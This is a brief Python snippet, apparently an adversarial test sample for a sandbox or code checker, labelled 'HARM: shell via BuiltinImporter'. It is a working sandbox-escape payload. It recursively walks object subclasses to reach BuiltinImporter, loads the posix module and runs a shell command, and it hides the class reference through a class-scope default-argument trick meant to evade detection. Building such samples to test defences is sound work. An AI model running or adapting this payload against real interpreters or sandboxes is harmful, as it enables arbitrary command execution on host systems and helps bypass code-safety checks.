# HARM: shell via BuiltinImporter | TRICK: class-scope default: walker defined in a class body where Base is bound by an inner assignment via for-target
class Base: pass
class A(Base): pass
class Reg:
    for Base in (object,):
        pass
    def walk(cls=Base):
        for sub in cls.__subclasses__():
            yield sub
            yield from Reg.walk(sub)
for k in Reg.walk():
    if k.__name__ == 'BuiltinImporter':
        k.load_module('posix').system('id')
